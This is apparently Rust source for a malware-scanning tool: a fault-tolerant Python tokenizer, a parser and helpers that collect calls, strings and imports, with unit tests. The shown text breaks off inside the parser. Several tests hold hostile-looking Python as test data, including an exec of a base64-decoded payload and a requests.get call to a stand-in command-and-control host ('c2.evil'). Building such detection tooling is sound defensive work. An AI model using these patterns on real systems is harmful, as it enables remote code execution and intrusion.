fn collect_calls_expr<'a>(expr: &'a Expr, out: &mut Vec<&'a Expr>) {
    if let Expr::Call { args, func, .. } = expr {
        out.push(expr);
        collect_calls_expr(func, out);
        for arg in args {
            collect_calls_expr(&arg.value, out);
        }
    } else if let Expr::Attribute { value, .. } = expr {
        collect_calls_expr(value, out);
    } else if let Expr::BinOp { left, right, .. } = expr {
        collect_calls_expr(left, out);
        collect_calls_expr(right, out);
    }
}

/// Collects every string literal in the module (recursing into calls).
pub fn collect_strings(module: &Module) -> Vec<(&str, usize)> {
    let mut out = Vec::new();
    for stmt in &module.body {
        collect_strings_stmt(stmt, &mut out);
    }
    out
}

fn collect_strings_stmt<'a>(stmt: &'a Stmt, out: &mut Vec<(&'a str, usize)>) {
    match stmt {
        Stmt::Expr { value, line } | Stmt::Assign { value, line, .. } => {
            collect_strings_expr(value, *line, out)
        }
        Stmt::Return {
            value: Some(value),
            line,
        } => collect_strings_expr(value, *line, out),
        Stmt::FunctionDef { body, .. } | Stmt::ClassDef { body, .. } | Stmt::Block { body, .. } => {
            for s in body {
                collect_strings_stmt(s, out);
            }
        }
        _ => {}
    }
}

fn collect_strings_expr<'a>(expr: &'a Expr, line: usize, out: &mut Vec<(&'a str, usize)>) {
    match expr {
        Expr::Str(s) => out.push((s.as_str(), line)),
        Expr::Call { func, args } => {
            collect_strings_expr(func, line, out);
            for a in args {
                collect_strings_expr(&a.value, line, out);
            }
        }
        Expr::Attribute { value, .. } => collect_strings_expr(value, line, out),
        Expr::BinOp { left, right, .. } => {
            collect_strings_expr(left, line, out);
            collect_strings_expr(right, line, out);
        }
        _ => {}
    }
}

/// Collects imported module paths (`import x.y`, `from x import y`).
pub fn collect_imports(module: &Module) -> Vec<String> {
    let mut out = Vec::new();
    for stmt in &module.body {
        collect_imports_stmt(stmt, &mut out);
    }
    out
}

fn collect_imports_stmt(stmt: &Stmt, out: &mut Vec<String>) {
    match stmt {
        Stmt::Import { modules, .. } => out.extend(modules.iter().map(|m| m.path.clone())),
        Stmt::FromImport { module, names, .. } => {
            for n in names {
                out.push(format!("{module}.{}", n.path));
            }
        }
        Stmt::FunctionDef { body, .. } | Stmt::ClassDef { body, .. } | Stmt::Block { body, .. } => {
            for s in body {
                collect_imports_stmt(s, out);
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn collect_calls_finds_nested() {
        let m = parse_module("exec(base64.b64decode(payload))\n");
        let calls = collect_calls(&m);
        let names: Vec<String> = calls.iter().map(|c| c.func_path()).collect();
        assert!(names.contains(&"exec".to_owned()));
        assert!(names.contains(&"base64.b64decode".to_owned()));
    }

    #[test]
    fn collect_strings_inside_calls() {
        let m = parse_module("requests.get('http://c2.evil/x')\n");
        let strings = collect_strings(&m);
        assert_eq!(strings.len(), 1);
        assert_eq!(strings[0].0, "http://c2.evil/x");
    }

    #[test]
    fn collect_imports_both_forms() {
        let m = parse_module("import os, sys\nfrom subprocess import Popen\n");
        let imports = collect_imports(&m);
        assert!(imports.contains(&"os".to_owned()));
        assert!(imports.contains(&"sys".to_owned()));
        assert!(imports.contains(&"subprocess.Popen".to_owned()));
    }

    #[test]
    fn collect_calls_inside_function_bodies() {
        let src = "def run():\n    os.system('id')\n";
        let m = parse_module(src);
        let calls = collect_calls(&m);
        assert_eq!(calls.len(), 1);
    }
}

//! Indentation-aware Python tokenizer.
//!
//! Tolerant by design: malformed input (unterminated strings, stray bytes)
//! produces best-effort tokens rather than errors, because the scanner must
//! process deliberately obfuscated malware sources.

use crate::token::{SpannedToken, Token, TokenKind};

/// Multi-character operators, longest first so maximal munch works.
const OPERATORS: &[&str] = &[
    "**=", "//=", ">>=", "<<=", "...", "->", ":=", "==", "!=", "<=", ">=", "//", "**", ">>", "<<",
    "+=", "-=", "*=", "/=", "%=", "|=", "&=", "^=", "@=",
];

/// Tokenizes Python `source` into a flat token stream ending in
/// [`TokenKind::Eof`]. INDENT/DEDENT tokens are synthesized from leading
/// whitespace; newlines inside `()`/`[]`/`{}` are suppressed.
pub fn lex(source: &str) -> Vec<Token> {
    lex_spanned(source).into_iter().map(|s| s.token).collect()
}

/// Like [`lex`], but each token carries the byte span it was lexed from,
/// so source-to-source rewriters can splice replacements exactly.
pub fn lex_spanned(source: &str) -> Vec<SpannedToken> {
    Lexer::new(source).run()
}

/// Result of re-lexing a byte window of a larger source (see
/// [`lex_window`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WindowLex {
    /// Tokens with spans and line numbers rebased to the full source.
    pub tokens: Vec<SpannedToken>,
    /// True when the relex ran out of input *at a line start* — every
    /// trailing byte was consumed as complete statements plus blank or
    /// comment lines — rather than inside an open bracket, an
    /// unterminated string, or after a trailing `\`-continuation. Only
    /// then can the tokens be spliced against tokens lexed beyond the
    /// window: an unclean exit means the full lexer would have swallowed
    /// bytes past the window edge into one of this window's tokens.
    pub ends_at_statement_boundary: bool,
}

/// Re-lexes `source[start..end]` as if the lexer had just crossed a
/// top-level statement boundary at `start`: fresh indentation stack,
/// bracket depth zero, column zero. Spans are rebased by `start` and
/// line numbers by the newline count of `source[..start]`, so the
/// tokens drop into the full source's coordinate system.
///
/// The output equals the `[start..end)` slice of `lex_spanned(source)`
/// **only if** `start` really is such a boundary (the full lexer's
/// indent stack is `[0]` there — e.g. offset 0, or just after the
/// newline ending an unindented statement). Offsets inside brackets,
/// strings or indented suites produce a best-effort tolerant lex of the
/// window instead; callers splicing tokens must verify the boundary
/// from an existing token stream.
///
/// # Panics
///
/// Panics if `start..end` is out of bounds or not on `char` boundaries.
pub fn lex_window(source: &str, start: usize, end: usize) -> WindowLex {
    let first_line = 1 + source.as_bytes()[..start]
        .iter()
        .filter(|&&b| b == b'\n')
        .count();
    let mut lexer = Lexer::new(&source[start..end]);
    let mut tokens = lexer.run();
    let boundary = lexer.clean_eof && !lexer.unterminated;
    for t in &mut tokens {
        t.start += start;
        t.end += start;
        t.token.line += first_line - 1;
    }
    WindowLex {
        tokens,
        ends_at_statement_boundary: boundary,
    }
}

/// Tokenizes the tail of `source` from `offset`, rebasing spans and
/// line numbers so the tokens land in full-source coordinates — the
/// offset-relex primitive the incremental artifact splicer builds on.
///
/// Equivalent to the `[offset..]` suffix of [`lex_spanned`] when
/// `offset` sits at a column-zero statement boundary; see
/// [`lex_window`] for the exact contract (and the panic conditions).
pub fn lex_starts_at(source: &str, offset: usize) -> Vec<SpannedToken> {
    lex_window(source, offset, source.len()).tokens
}

struct Lexer<'a> {
    src: &'a [u8],
    pos: usize,
    line: usize,
    col: usize,
    depth: usize,
    indents: Vec<usize>,
    out: Vec<SpannedToken>,
    at_line_start: bool,
    /// Byte offset where the token currently being lexed started.
    token_start: usize,
    /// Input ran out while scanning line starts (blank/comment lines or
    /// a fresh statement boundary) — not mid-statement. See
    /// [`WindowLex::ends_at_statement_boundary`].
    clean_eof: bool,
    /// A string literal swallowed the rest of the input.
    unterminated: bool,
}

impl<'a> Lexer<'a> {
    fn new(source: &'a str) -> Self {
        Lexer {
            src: source.as_bytes(),
            pos: 0,
            line: 1,
            col: 0,
            depth: 0,
            indents: vec![0],
            out: Vec::new(),
            at_line_start: true,
            token_start: 0,
            clean_eof: false,
            unterminated: false,
        }
    }

    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn peek2(&self) -> Option<u8> {
        self.src.get(self.pos + 1).copied()
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek()?;
        self.pos += 1;
        if b == b'\n' {
            self.line += 1;
            self.col = 0;
        } else {
            self.col += 1;
        }
        Some(b)
    }

    fn push(&mut self, kind: TokenKind, line: usize, col: usize) {
        self.out.push(SpannedToken {
            token: Token { kind, line, col },
            start: self.token_start.min(self.pos),
            end: self.pos,
        });
    }

    fn run(&mut self) -> Vec<SpannedToken> {
        loop {
            if self.at_line_start && self.depth == 0 && !self.handle_indentation() {
                // EOF while scanning line starts: a clean exit, unless a
                // string already swallowed the tail.
                self.clean_eof = true;
                break;
            }
            let (line, col) = (self.line, self.col);
            self.token_start = self.pos;
            let Some(b) = self.peek() else { break };
            match b {
                b'\n' => {
                    self.bump();
                    if self.depth == 0 {
                        // Collapse duplicate newlines.
                        if !matches!(
                            self.out.last().map(|t| &t.token.kind),
                            Some(TokenKind::Newline) | Some(TokenKind::Indent) | None
                        ) {
                            self.push(TokenKind::Newline, line, col);
                        }
                        self.at_line_start = true;
                    }
                }
                b'\r' => {
                    self.bump();
                }
                b' ' | b'\t' => {
                    self.bump();
                }
                b'\\' if self.peek2() == Some(b'\n') => {
                    // Explicit line continuation.
                    self.bump();
                    self.bump();
                }
                b'#' => {
                    let text = self.take_while(|b| b != b'\n');
                    self.push(TokenKind::Comment(text), line, col);
                }
                b'"' | b'\'' => self.string(String::new(), line, col),
                b'0'..=b'9' => {
                    let text =
                        self.take_while(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'_');
                    self.push(TokenKind::Number(text), line, col);
                }
                b if b.is_ascii_alphabetic() || b == b'_' || b >= 0x80 => {
                    let word =
                        self.take_while(|b| b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80);
                    // String prefix? (r'', b"", f''', rb'' ...)
                    let lower = word.to_ascii_lowercase();
                    if matches!(
                        lower.as_str(),
                        "r" | "b" | "f" | "u" | "rb" | "br" | "fr" | "rf"
                    ) && matches!(self.peek(), Some(b'"') | Some(b'\''))
                    {
                        self.string(lower, line, col);
                    } else {
                        self.push(TokenKind::Ident(word), line, col);
                    }
                }
                _ => self.operator(line, col),
            }
        }
        // Close out: final newline + remaining dedents.
        self.token_start = self.pos;
        if !matches!(
            self.out.last().map(|t| &t.token.kind),
            Some(TokenKind::Newline) | None
        ) {
            self.push(TokenKind::Newline, self.line, self.col);
        }
        while self.indents.len() > 1 {
            self.indents.pop();
            self.push(TokenKind::Dedent, self.line, 0);
        }
        self.push(TokenKind::Eof, self.line, self.col);
        std::mem::take(&mut self.out)
    }

    /// Measures leading whitespace and emits INDENT/DEDENT. Returns false
    /// at end of input.
    fn handle_indentation(&mut self) -> bool {
        loop {
            let start = self.pos;
            let mut width = 0usize;
            while let Some(b) = self.peek() {
                match b {
                    b' ' => {
                        width += 1;
                        self.bump();
                    }
                    b'\t' => {
                        width += 8 - (width % 8);
                        self.bump();
                    }
                    _ => break,
                }
            }
            match self.peek() {
                // Blank or comment-only lines don't affect indentation.
                Some(b'\n') => {
                    self.bump();
                    continue;
                }
                Some(b'\r') => {
                    self.bump();
                    continue;
                }
                Some(b'#') => {
                    let line = self.line;
                    let col = self.col;
                    self.token_start = self.pos;
                    let text = self.take_while(|b| b != b'\n');
                    self.push(TokenKind::Comment(text), line, col);
                    continue;
                }
                None => return false,
                _ => {}
            }
            self.token_start = self.pos;
            let current = *self.indents.last().expect("indent stack never empty");
            if width > current {
                self.indents.push(width);
                self.push(TokenKind::Indent, self.line, 0);
            } else if width < current {
                while *self.indents.last().expect("nonempty") > width {
                    self.indents.pop();
                    self.push(TokenKind::Dedent, self.line, 0);
                }
                // Inconsistent dedent (common in mangled malware) — treat
                // the nearest level as the new one.
                if *self.indents.last().expect("nonempty") != width {
                    self.indents.push(width);
                    self.push(TokenKind::Indent, self.line, 0);
                }
            }
            self.at_line_start = false;
            let _ = start;
            return true;
        }
    }

    fn take_while(&mut self, pred: impl Fn(u8) -> bool) -> String {
        let start = self.pos;
        while matches!(self.peek(), Some(b) if pred(b)) {
            self.bump();
        }
        String::from_utf8_lossy(&self.src[start..self.pos]).into_owned()
    }

    fn string(&mut self, prefix: String, line: usize, col: usize) {
        let quote = self.bump().expect("caller checked quote");
        let triple = self.peek() == Some(quote) && self.peek2() == Some(quote);
        if triple {
            self.bump();
            self.bump();
        }
        let raw = prefix.contains('r');
        let mut value = String::new();
        loop {
            match self.peek() {
                None => {
                    // Unterminated — tolerate, but remember for window
                    // relexing: the token absorbed the rest of the input.
                    self.unterminated = true;
                    break;
                }
                Some(b'\\') if !raw => {
                    self.bump();
                    match self.bump() {
                        Some(b'n') => value.push('\n'),
                        Some(b't') => value.push('\t'),
                        Some(b'r') => value.push('\r'),
                        Some(b'\\') => value.push('\\'),
                        Some(b'\'') => value.push('\''),
                        Some(b'"') => value.push('"'),
                        Some(b'\n') => {} // continuation inside string
                        Some(other) => {
                            value.push('\\');
                            value.push(other as char);
                        }
                        None => {
                            self.unterminated = true;
                            break;
                        }
                    }
                }
                Some(b) if b == quote => {
                    if triple {
                        if self.peek2() == Some(quote)
                            && self.src.get(self.pos + 2).copied() == Some(quote)
                        {
                            self.bump();
                            self.bump();
                            self.bump();
                            break;
                        }
                        self.bump();
                        value.push(quote as char);
                    } else {
                        self.bump();
                        break;
                    }
                }
                Some(b'\n') if !triple => {
                    // Unterminated single-quoted string; stop at EOL.
                    break;
                }
                Some(b) => {
                    self.bump();
                    value.push(b as char);
                }
            }
        }
        self.push(TokenKind::Str { value, prefix }, line, col);
    }

    fn operator(&mut self, line: usize, col: usize) {
        for op in OPERATORS {
            if self.src[self.pos..].starts_with(op.as_bytes()) {
                for _ in 0..op.len() {
                    self.bump();
                }
                self.push(TokenKind::Op((*op).to_owned()), line, col);
                return;
            }
        }
        let b = self.bump().expect("caller checked a byte exists");
        match b {
            b'(' | b'[' | b'{' => self.depth += 1,
            b')' | b']' | b'}' => self.depth = self.depth.saturating_sub(1),
            _ => {}
        }
        self.push(TokenKind::Op((b as char).to_string()), line, col);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        lex(src).into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn simple_statement() {
        let k = kinds("import os\n");
        assert_eq!(
            k,
            vec![
                TokenKind::Ident("import".into()),
                TokenKind::Ident("os".into()),
                TokenKind::Newline,
                TokenKind::Eof,
            ]
        );
    }

    #[test]
    fn indentation_tokens() {
        let k = kinds("def f():\n    pass\n");
        assert!(k.contains(&TokenKind::Indent));
        assert!(k.contains(&TokenKind::Dedent));
    }

    #[test]
    fn nested_indentation() {
        let src = "if a:\n    if b:\n        pass\n";
        let k = kinds(src);
        let indents = k.iter().filter(|k| **k == TokenKind::Indent).count();
        let dedents = k.iter().filter(|k| **k == TokenKind::Dedent).count();
        assert_eq!(indents, 2);
        assert_eq!(dedents, 2);
    }

    #[test]
    fn string_literals() {
        let k = kinds("x = 'hello'\n");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Str { value, .. } if value == "hello")));
    }

    #[test]
    fn string_escapes() {
        let k = kinds(r#"x = "a\nb""#);
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Str { value, .. } if value == "a\nb")));
    }

    #[test]
    fn raw_string_keeps_backslash() {
        let k = kinds(r"x = r'a\nb'");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Str { value, .. } if value == r"a\nb")));
    }

    #[test]
    fn triple_quoted_string() {
        let k = kinds("s = \"\"\"line1\nline2\"\"\"\n");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Str { value, .. } if value == "line1\nline2")));
    }

    #[test]
    fn bytes_prefix_recorded() {
        let k = kinds("p = b'payload'\n");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Str { prefix, .. } if prefix == "b")));
    }

    #[test]
    fn newline_suppressed_inside_brackets() {
        let k = kinds("f(a,\n  b)\n");
        let newlines = k.iter().filter(|k| **k == TokenKind::Newline).count();
        assert_eq!(newlines, 1);
    }

    #[test]
    fn comments_captured() {
        let k = kinds("# C2: 1.2.3.4\nx = 1\n");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Comment(c) if c.contains("C2"))));
    }

    #[test]
    fn blank_lines_dont_dedent() {
        let src = "def f():\n    a = 1\n\n    b = 2\n";
        let k = kinds(src);
        let dedents = k.iter().filter(|k| **k == TokenKind::Dedent).count();
        assert_eq!(dedents, 1);
    }

    #[test]
    fn multi_char_operators() {
        let k = kinds("a == b != c -> d\n");
        assert!(k.iter().any(|k| matches!(k, TokenKind::Op(o) if o == "==")));
        assert!(k.iter().any(|k| matches!(k, TokenKind::Op(o) if o == "!=")));
        assert!(k.iter().any(|k| matches!(k, TokenKind::Op(o) if o == "->")));
    }

    #[test]
    fn unterminated_string_tolerated() {
        let k = kinds("x = 'oops\ny = 2\n");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Str { value, .. } if value == "oops")));
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Ident(i) if i == "y")));
    }

    #[test]
    fn line_continuation() {
        let k = kinds("x = 1 + \\\n    2\n");
        let newlines = k.iter().filter(|k| **k == TokenKind::Newline).count();
        assert_eq!(newlines, 1);
    }

    #[test]
    fn numbers() {
        let k = kinds("x = 0xFF + 3.14\n");
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Number(n) if n == "0xFF")));
        assert!(k
            .iter()
            .any(|k| matches!(k, TokenKind::Number(n) if n == "3.14")));
    }

    #[test]
    fn spans_slice_back_to_raw_source() {
        let src = "x = rb'pay\\load'  # note\ny = 0xFF\n";
        for st in lex_spanned(src) {
            let raw = &src[st.start..st.end];
            match &st.token.kind {
                TokenKind::Ident(w) => assert_eq!(raw, w),
                TokenKind::Number(n) => assert_eq!(raw, n),
                TokenKind::Str { .. } => assert_eq!(raw, "rb'pay\\load'"),
                TokenKind::Comment(c) => assert_eq!(raw, c),
                TokenKind::Op(o) => assert_eq!(raw, o),
                TokenKind::Newline => assert_eq!(raw, "\n"),
                TokenKind::Indent | TokenKind::Dedent | TokenKind::Eof => assert!(raw.is_empty()),
            }
        }
    }

    #[test]
    fn spans_cover_triple_quoted_strings() {
        let src = "s = \"\"\"line1\nline2\"\"\"\nz = 1\n";
        let toks = lex_spanned(src);
        let s = toks
            .iter()
            .find(|t| matches!(t.kind(), TokenKind::Str { .. }))
            .expect("string token");
        assert_eq!(&src[s.start..s.end], "\"\"\"line1\nline2\"\"\"");
    }

    #[test]
    fn spans_are_monotone_and_in_bounds() {
        let src = "def f(a):\n    if a:\n        return 'x'\n";
        let toks = lex_spanned(src);
        let mut last = 0usize;
        for t in &toks {
            assert!(t.start <= t.end);
            assert!(t.end <= src.len());
            assert!(t.start >= last || t.start == t.end, "overlap at {t:?}");
            last = last.max(t.end);
        }
    }

    #[test]
    fn lex_starts_at_zero_is_lex_spanned() {
        let src = "import os\n\ndef f(a):\n    return a\n\nx = f(1)\n";
        assert_eq!(lex_starts_at(src, 0), lex_spanned(src));
    }

    #[test]
    fn lex_starts_at_statement_boundary_matches_full_lex_suffix() {
        let src = "import os\nx = 1\n\n# note\ndef f():\n    return x\n";
        let full = lex_spanned(src);
        // Every column-zero statement boundary after a real newline.
        for (i, t) in full.iter().enumerate() {
            if !matches!(t.kind(), TokenKind::Newline) || t.end - t.start != 1 {
                continue;
            }
            let next = &full[i + 1];
            if next.token.col != 0
                || next.end == next.start
                || matches!(next.kind(), TokenKind::Comment(_))
            {
                continue;
            }
            let suffix = lex_starts_at(src, next.start);
            assert_eq!(
                suffix,
                full[i + 1..].to_vec(),
                "suffix relex diverged at offset {}",
                next.start
            );
        }
    }

    #[test]
    fn lex_window_reports_statement_boundaries() {
        let clean = |w: &str| lex_window(w, 0, w.len()).ends_at_statement_boundary;
        assert!(clean("x = 1\n"));
        assert!(clean("x = 1\ny = 2\n"));
        // Trailing blank and comment lines are still line starts.
        assert!(clean("x = 1\n\n\n"));
        assert!(clean("x = 1\n# trailing note\n"));
        assert!(clean(""));
        // Open bracket swallows the edge.
        assert!(!clean("x = (1,\n"));
        // Unterminated triple-quoted string swallows the edge.
        assert!(!clean("s = '''abc\ndef\n"));
        // Trailing continuation glues the next line on.
        assert!(!clean("x = 1 + \\\n"));
        // No trailing newline: the last statement may continue.
        assert!(!clean("x = 1"));
    }

    #[test]
    fn lex_window_rebases_spans_and_lines() {
        let src = "a = 1\nb = 2\nc = 3\n";
        let full = lex_spanned(src);
        let w = lex_window(src, 6, 12);
        assert!(w.ends_at_statement_boundary);
        let expected: Vec<SpannedToken> = full
            .iter()
            .filter(|t| t.start >= 6 && t.end <= 12 && t.end > t.start)
            .cloned()
            .collect();
        // The window's content tokens (everything but the close-out EOF)
        // are exactly the full lex's tokens over those bytes.
        let content: Vec<SpannedToken> = w
            .tokens
            .iter()
            .filter(|t| !matches!(t.kind(), TokenKind::Eof))
            .cloned()
            .collect();
        assert_eq!(content, expected);
        assert_eq!(content[0].token.line, 2);
    }

    #[test]
    fn line_numbers_tracked() {
        let toks = lex("a = 1\nb = 2\n");
        let b_tok = toks
            .iter()
            .find(|t| t.as_ident() == Some("b"))
            .expect("b token");
        assert_eq!(b_tok.line, 2);
    }
}

//! Tolerant recursive-descent parser over the token stream.

use crate::ast::{Arg, Expr, ImportedName, Module, Stmt};
use crate::lexer::lex;
use crate::token::{Token, TokenKind};

/// Parses Python `source` into a [`Module`].
///
/// Never fails: statements the parser doesn't understand are preserved as
/// [`Stmt::Other`] nodes carrying reconstructed text, so downstream
/// matchers always see the full file.
pub fn parse_module(source: &str) -> Module {
    parse_tokens(lex(source))
}

/// Parses an already-lexed token stream into a [`Module`].
///
/// This is the incremental splicer's entry point: it re-lexes only an
/// edited window of a changed file and must not pay a second full lex
/// inside the parser. Same tolerance guarantees as [`parse_module`].
/// The stream should end with [`TokenKind::Eof`]; one is appended if
/// missing (the parser treats the final token as a sticky sentinel).
pub fn parse_tokens(mut tokens: Vec<Token>) -> Module {
    if !matches!(tokens.last().map(|t| &t.kind), Some(TokenKind::Eof)) {
        let (line, col) = tokens.last().map(|t| (t.line, t.col)).unwrap_or((1, 0));
        tokens.push(Token {
            kind: TokenKind::Eof,
            line,
            col,
        });
    }
    let mut p = Parser {
        tokens,
        pos: 0,
        block_depth: 0,
        expr_depth: 0,
    };
    let body = p.statements(/*stop_at_dedent=*/ false);
    Module { body }
}

/// Maximum nesting of indented blocks before the parser degrades the
/// block to a flat [`Stmt::Other`]. Malware has shipped pathologically
/// indented files specifically to crash recursive parsers; past this
/// depth we keep the text visible to matchers but stop recursing.
const MAX_BLOCK_DEPTH: usize = 128;

/// Maximum expression nesting (parentheses, call arguments, unary
/// chains) before degrading to [`Expr::Other`]. A file of 100k `(` bytes
/// must not overflow the stack.
const MAX_EXPR_DEPTH: usize = 96;

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
    block_depth: usize,
    expr_depth: usize,
}

impl Parser {
    fn peek(&self) -> &TokenKind {
        &self.tokens[self.pos.min(self.tokens.len() - 1)].kind
    }

    fn peek_token(&self) -> &Token {
        &self.tokens[self.pos.min(self.tokens.len() - 1)]
    }

    fn bump(&mut self) -> Token {
        let t = self.tokens[self.pos.min(self.tokens.len() - 1)].clone();
        if self.pos < self.tokens.len() {
            self.pos += 1;
        }
        t
    }

    fn eat_op(&mut self, op: &str) -> bool {
        if matches!(self.peek(), TokenKind::Op(o) if o == op) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn at_eof(&self) -> bool {
        matches!(self.peek(), TokenKind::Eof)
    }

    fn skip_newlines_and_comments(&mut self) {
        while matches!(self.peek(), TokenKind::Newline | TokenKind::Comment(_)) {
            self.bump();
        }
    }

    fn statements(&mut self, stop_at_dedent: bool) -> Vec<Stmt> {
        let mut body = Vec::new();
        loop {
            self.skip_newlines_and_comments();
            match self.peek() {
                TokenKind::Eof => break,
                TokenKind::Dedent if stop_at_dedent => {
                    self.bump();
                    break;
                }
                TokenKind::Dedent => {
                    // Stray dedent at top level (inconsistent input).
                    self.bump();
                }
                TokenKind::Indent => {
                    // Unexpected indent — parse it as an anonymous block so
                    // nested statements are still visible.
                    self.bump();
                    let inner = self.indented_body();
                    body.push(Stmt::Block {
                        keyword: String::new(),
                        header: String::new(),
                        body: inner,
                        line: self.peek_token().line,
                    });
                }
                _ => body.push(self.statement()),
            }
        }
        body
    }

    fn statement(&mut self) -> Stmt {
        let line = self.peek_token().line;
        if let TokenKind::Ident(word) = self.peek() {
            match word.as_str() {
                "import" => return self.import_stmt(line),
                "from" => return self.parse_from_import(line),
                "def" => return self.def_stmt(line),
                "class" => return self.class_stmt(line),
                "return" => return self.return_stmt(line),
                "async" => {
                    // `async def` — consume the marker and recurse.
                    self.bump();
                    if matches!(self.peek(), TokenKind::Ident(w) if w == "def") {
                        return self.def_stmt(line);
                    }
                    return self.block_stmt("async".into(), line);
                }
                "if" | "elif" | "else" | "for" | "while" | "try" | "except" | "finally"
                | "with" => {
                    let kw = word.clone();
                    return self.block_stmt(kw, line);
                }
                "pass" | "break" | "continue" => {
                    let kw = word.clone();
                    self.bump();
                    self.consume_to_newline();
                    return Stmt::Other { text: kw, line };
                }
                "raise" | "assert" | "del" | "global" | "nonlocal" | "yield" | "lambda" => {
                    let text = self.consume_to_newline();
                    return Stmt::Other { text, line };
                }
                "@" => {}
                _ => {}
            }
        }
        if matches!(self.peek(), TokenKind::Op(o) if o == "@") {
            // Decorator — record as Other and continue.
            let text = self.consume_to_newline();
            return Stmt::Other { text, line };
        }
        // Expression or assignment.
        let expr = self.expression();
        if matches!(self.peek(), TokenKind::Op(o) if o == "=") {
            let mut targets = vec![expr.to_text()];
            let mut value = None;
            while self.eat_op("=") {
                let next = self.expression();
                if matches!(self.peek(), TokenKind::Op(o) if o == "=") {
                    targets.push(next.to_text());
                } else {
                    value = Some(next);
                    break;
                }
            }
            self.consume_to_newline();
            return Stmt::Assign {
                targets,
                value: value.unwrap_or(Expr::Other(String::new())),
                line,
            };
        }
        // Augmented assignment — keep RHS as the value.
        if matches!(self.peek(), TokenKind::Op(o) if o.ends_with('=') && o.len() >= 2 && o != "==" && o != "!=" && o != ">=" && o != "<=")
        {
            self.bump();
            let value = self.expression();
            self.consume_to_newline();
            return Stmt::Assign {
                targets: vec![expr.to_text()],
                value,
                line,
            };
        }
        self.consume_to_newline();
        Stmt::Expr { value: expr, line }
    }

    fn import_stmt(&mut self, line: usize) -> Stmt {
        self.bump(); // 'import'
        let mut modules = Vec::new();
        loop {
            let path = self.dotted_name();
            if path.is_empty() {
                break;
            }
            // `import x as y` — keep the alias: it is the name the rest
            // of the file binds, and taint alias resolution needs it.
            let mut alias = None;
            if matches!(self.peek(), TokenKind::Ident(w) if w == "as") {
                self.bump();
                if let TokenKind::Ident(a) = self.peek() {
                    alias = Some(a.clone());
                }
                self.bump();
            }
            modules.push(ImportedName { path, alias });
            if !self.eat_op(",") {
                break;
            }
        }
        self.consume_to_newline();
        Stmt::Import { modules, line }
    }

    fn parse_from_import(&mut self, line: usize) -> Stmt {
        self.bump(); // 'from'
        let module = self.dotted_name();
        let mut names = Vec::new();
        if matches!(self.peek(), TokenKind::Ident(w) if w == "import") {
            self.bump();
            let parenthesized = self.eat_op("(");
            loop {
                match self.peek() {
                    TokenKind::Ident(w) => {
                        let name = w.clone();
                        self.bump();
                        let mut alias = None;
                        if matches!(self.peek(), TokenKind::Ident(w) if w == "as") {
                            self.bump();
                            if let TokenKind::Ident(a) = self.peek() {
                                alias = Some(a.clone());
                            }
                            self.bump();
                        }
                        names.push(ImportedName { path: name, alias });
                        if !self.eat_op(",") {
                            break;
                        }
                    }
                    TokenKind::Op(o) if o == "*" => {
                        self.bump();
                        names.push(ImportedName::plain("*"));
                        break;
                    }
                    _ => break,
                }
            }
            if parenthesized {
                self.eat_op(")");
            }
        }
        self.consume_to_newline();
        Stmt::FromImport {
            module,
            names,
            line,
        }
    }

    fn dotted_name(&mut self) -> String {
        let mut parts = Vec::new();
        while let TokenKind::Ident(w) = self.peek() {
            parts.push(w.clone());
            self.bump();
            if !self.eat_op(".") {
                break;
            }
        }
        parts.join(".")
    }

    fn def_stmt(&mut self, line: usize) -> Stmt {
        self.bump(); // 'def'
        let name = match self.peek() {
            TokenKind::Ident(w) => {
                let n = w.clone();
                self.bump();
                n
            }
            _ => String::new(),
        };
        let mut params = Vec::new();
        if self.eat_op("(") {
            let mut depth = 1usize;
            let mut expect_param = true;
            while depth > 0 && !self.at_eof() {
                match self.peek() {
                    TokenKind::Op(o) if o == "(" || o == "[" || o == "{" => {
                        depth += 1;
                        self.bump();
                    }
                    TokenKind::Op(o) if o == ")" || o == "]" || o == "}" => {
                        depth -= 1;
                        self.bump();
                    }
                    TokenKind::Op(o) if o == "," && depth == 1 => {
                        expect_param = true;
                        self.bump();
                    }
                    TokenKind::Ident(w) if depth == 1 && expect_param => {
                        params.push(w.clone());
                        expect_param = false;
                        self.bump();
                    }
                    _ => {
                        self.bump();
                    }
                }
            }
        }
        let body = self.suite();
        Stmt::FunctionDef {
            name,
            params,
            body,
            line,
        }
    }

    fn class_stmt(&mut self, line: usize) -> Stmt {
        self.bump(); // 'class'
        let name = match self.peek() {
            TokenKind::Ident(w) => {
                let n = w.clone();
                self.bump();
                n
            }
            _ => String::new(),
        };
        let mut bases = Vec::new();
        if self.eat_op("(") {
            while !self.at_eof() {
                match self.peek() {
                    TokenKind::Op(o) if o == ")" => {
                        self.bump();
                        break;
                    }
                    TokenKind::Op(o) if o == "," => {
                        self.bump();
                    }
                    _ => {
                        let base = self.dotted_name();
                        if base.is_empty() {
                            self.bump();
                        } else {
                            bases.push(base);
                        }
                    }
                }
            }
        }
        let body = self.suite();
        Stmt::ClassDef {
            name,
            bases,
            body,
            line,
        }
    }

    fn return_stmt(&mut self, line: usize) -> Stmt {
        self.bump(); // 'return'
        let value = if matches!(self.peek(), TokenKind::Newline | TokenKind::Eof) {
            None
        } else {
            Some(self.expression())
        };
        self.consume_to_newline();
        Stmt::Return { value, line }
    }

    fn block_stmt(&mut self, keyword: String, line: usize) -> Stmt {
        self.bump(); // keyword
                     // Header: tokens until ':' at bracket depth zero.
        let mut header = keyword.clone();
        let mut depth = 0usize;
        loop {
            match self.peek() {
